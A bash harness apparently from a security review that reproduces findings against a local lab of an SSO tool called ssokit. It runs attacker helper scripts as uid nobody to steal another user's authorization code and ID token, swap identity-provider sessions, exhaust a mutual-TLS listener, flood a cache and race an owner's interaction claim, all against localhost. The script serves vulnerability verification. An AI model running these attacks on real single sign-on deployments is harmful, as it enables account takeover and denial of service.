#!/usr/bin/env bash
# Reproduces the findings of REVIEW.md against a fresh lab. Run as root from the repository root:
#   SSOKIT=.build/debug/ssokit Adversary/serve/run_findings.sh
# The "attacker" is uid 65534 (nobody), which is not in the registry and cannot open the 0600 app API socket.
set -uo pipefail
SSOKIT=${SSOKIT:-.build/debug/ssokit}
HERE=$(cd "$(dirname "$0")" && pwd)
DIR=$(mktemp -d /tmp/ssokit-adv-XXXXXX)
"$HERE/lab.sh" "$DIR" > /dev/null
source "$DIR/env"
NOBODY="setpriv --reuid=65534 --regid=65534 --clear-groups /usr/bin/python3"
trap 'kill $SERVE_PID $IDP_PID 2>/dev/null' EXIT
echo "lab: $DIR"

echo "== 0. The owner (uid $(id -u)) signs in once through the app API (alice)"
ID=$(curl -s --unix-socket "$SOCKET" http://x/v1/authorize \
  -d "{\"app\":\"com.example.mail\",\"operation\":\"login\",\"url\":\"$IDP/authorize\"}" |
  python3 -c 'import json,sys; print(json.load(sys.stdin)["interaction"]["id"])')
curl -s --unix-socket "$SOCKET" "http://x/v1/interactions/$ID" -d '{"username":"alice","password":"alice-pw-123"}' |
  python3 -c 'import json,sys; print("owner login:", json.load(sys.stdin)["result"])'
echo "== nobody on the app API socket (expected: refused by the socket mode):"
setpriv --reuid=65534 --regid=65534 --clear-groups curl -sS --unix-socket "$SOCKET" http://x/healthz 2>&1 | head -1

echo "== 1. nobody gets an authorization code and an ID token of alice through the proxy"
$NOBODY "$DIR/01_proxy_cross_user_code.py" "$IDP" "$PROXY"

echo "== 2. nobody replaces the owner's IdP session with bob's (prompt=login on the proxy's sign-in page)"
$NOBODY "$DIR/02_proxy_session_swap.py" "$IDP" "$PROXY"
echo "   the owner's own browser flow through the proxy now signs in as:"
python3 "$DIR/01_proxy_cross_user_code.py" "$IDP" "$PROXY" | tail -1

echo "== 3. unauthenticated TCP peers exhaust the mutual-TLS listener (server started with ulimit -n 1024)"
mkdir -p "$DIR/pki" && (cd "$DIR/pki" &&
  openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout ca.key -out ca.pem -days 2 -subj /CN=ca &&
  openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout server.key -out server.csr -subj /CN=s &&
  printf "subjectAltName=IP:127.0.0.1\n" > ext &&
  openssl x509 -req -in server.csr -CA ca.pem -CAkey ca.key -CAcreateserial -out server.pem -days 2 -extfile ext &&
  openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout client.key -out client.csr -subj /CN=c &&
  openssl x509 -req -in client.csr -CA ca.pem -CAkey ca.key -out client.pem -days 2 && chmod 600 ./*.key) > /dev/null 2>&1
DIGEST=$(openssl x509 -in "$DIR/pki/client.pem" -outform DER | sha256sum | cut -d' ' -f1)
echo "{\"certificates\": {\"$DIGEST\": [\"com.example.mail\"]}}" > "$DIR/registry-tls.json"
(ulimit -n 1024; XDG_CONFIG_HOME="$DIR/config3" exec "$SSOKIT" serve --profile "$DIR/profile.json" --host 127.0.0.1 \
  --port 0 --tls-cert "$DIR/pki/server.pem" --tls-key "$DIR/pki/server.key" --client-ca "$DIR/pki/ca.pem" \
  --registry "$DIR/registry-tls.json" --cache "$DIR/cache3" > "$DIR/serve3.out" 2> "$DIR/serve3.err") &
TLS_PID=$!
for _ in $(seq 150); do grep -q READY "$DIR/serve3.out" && break; sleep 0.2; done
TLS_PORT=$(sed 's/.*://' "$DIR/serve3.out")
curl -s --cacert "$DIR/pki/ca.pem" --cert "$DIR/pki/client.pem" --key "$DIR/pki/client.key" \
  "https://127.0.0.1:$TLS_PORT/healthz" | sed 's/^/   before, with a client certificate: /'; echo
$NOBODY "$DIR/03_connection_exhaustion.py" "$TLS_PORT" 1100 | sed 's/^/   /'
kill "$TLS_PID" 2>/dev/null

echo "== 5. the sign-in binding cookie is scoped to the whole IdP origin (Path=/), so pass-through requests carry it"
python3 - "$IDP" "$PROXY" <<'PY'
import http.client, sys, urllib.parse
idp, proxy = sys.argv[1], int(sys.argv[2])
url = idp + "/authorize?" + urllib.parse.urlencode({"response_type": "code", "client_id": "ssokit-demo",
    "redirect_uri": "http://127.0.0.1:9/callback", "scope": "openid", "state": "s", "prompt": "login",
    "code_challenge": "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM", "code_challenge_method": "S256"})
c = http.client.HTTPConnection("127.0.0.1", proxy); c.request("GET", url); r = c.getresponse(); r.read()
print("   Set-Cookie:", r.getheader("set-cookie")[:14] + "<id>=<secret>; " + r.getheader("set-cookie").split("; ", 1)[1])
PY

echo "== 4. nobody fills the cache with pending interactions that serve never purges"
$NOBODY "$DIR/04_interaction_growth.py" "$IDP" "$PROXY" 200
python3 -c "
import sqlite3; c = sqlite3.connect('file:$DIR/cache/cache.sqlite?mode=ro', uri=True)
print('once_entries by namespace:', dict(c.execute('select namespace, count(*) from once_entries group by namespace')))"

echo "== 6. a profile reload adds a Redirect URL: the PAC file and the proxy do not follow"
python3 - "$DIR/profile.json" <<'PY'
import json, sys
p = json.load(open(sys.argv[1])); p["PayloadContent"][0]["URLs"].append("http://127.0.0.2:8080/sso")
json.dump(p, open(sys.argv[1], "w"))
PY
kill -HUP "$SERVE_PID"; sleep 2
grep -c '"profile reloaded"' "$DIR/serve.err" | sed 's/^/   reloads logged: /'
curl -s --unix-socket "$SOCKET" http://x/proxy.pac | grep -c '127.0.0.2' | sed 's/^/   PAC lines naming 127.0.0.2: /'

echo "== 8. a holder of a leaked interaction ID makes the owner's resume fail (claim takes, compares, puts back)"
"$HERE/lab.sh" "$DIR/race" > /dev/null
(source "$DIR/race/env"
 python3 "$HERE/08_owner_claim_race.py" "$IDP" "$PROXY" "$SOCKET" 10 3 | sed 's/^/   with 3 thieves: /'
 kill "$SERVE_PID" "$IDP_PID")

echo "== 7. a second serve on the same socket path unlinks the live socket of the first"
XDG_CONFIG_HOME="$DIR/config2" "$SSOKIT" serve --profile "$DIR/profile.json" --socket "$SOCKET" \
  --registry "$DIR/registry.json" --cache "$DIR/cache2" > "$DIR/serve2.out" 2> "$DIR/serve2.err" &
SECOND=$!
for _ in $(seq 150); do grep -q READY "$DIR/serve2.out" && break; sleep 0.2; done
kill "$SECOND"; wait "$SECOND" 2>/dev/null
kill -0 "$SERVE_PID" && echo "   first instance (pid $SERVE_PID) still runs; its socket exists: $(test -S "$SOCKET" && echo yes || echo no)"
